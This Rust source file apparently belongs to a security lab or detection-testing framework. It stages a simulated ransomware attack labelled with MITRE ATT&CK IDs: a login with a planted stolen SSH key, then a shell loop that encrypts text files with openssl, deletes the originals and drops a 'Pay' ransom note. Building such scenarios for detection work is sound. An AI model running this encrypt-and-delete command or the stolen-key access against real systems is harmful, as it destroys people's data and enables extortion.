//! With a stolen key, documents are encrypted one after the other and a note is left.
//!
//! Hard because: people replace the same files all the time, pack and sum them, by the same programs.

use crate::Lab;
use crate::life::remote::{self, Thief, make_key};
use crate::life::{documents, host_tasks};
use crate::program::user;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("files-1")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    documents::make(lab, &host)?;
    documents::edit(lab, &host)?;
    remote::work(lab, &admin, &host, "deploy")?;
    make_key(&attacker, "/root/.ssh/stolen", user::ROOT, &[(&host, "/home/alice", user::ALICE)])?;
    lab.wait(15..25);

    let attack = lab.attack("ransom")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/stolen", account: "alice", to: &host };
    let step = attack.step("a login with a stolen key", &["T1078.003", "T1083"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!("{} id; find {} -type f | wc -l", step.mark(&host)?, documents::FOLDER))?;
    ensure!(said.contains("uid=1000"), "the login did not work: {said}");
    drop(step);
    lab.wait(3..8);

    let end = *lab.pick(&["locked", "enc", "crypt"]);
    let step = attack.step("documents are encrypted", &["T1486", "T1485"]);
    step.remote(&host, &attacker);
    let pace = lab.number(1..4);
    let encrypt = format!(
        "{} cd {}; for f in $(find . -name \"*.txt\" | head -20); do openssl enc -aes-256-ctr -pbkdf2 -pass file:/etc/hostname \
         -in $f -out $f.{end} && rm $f; sleep 0.{pace}; done; echo Pay > READ_ME",
        step.mark(&host)?,
        documents::FOLDER
    );
    step.file(&host, &format!("{}/READ_ME", documents::FOLDER));
    thief.log_in(&encrypt)?;
    drop(step);
    lab.wait(10..16);
    Ok(())
}
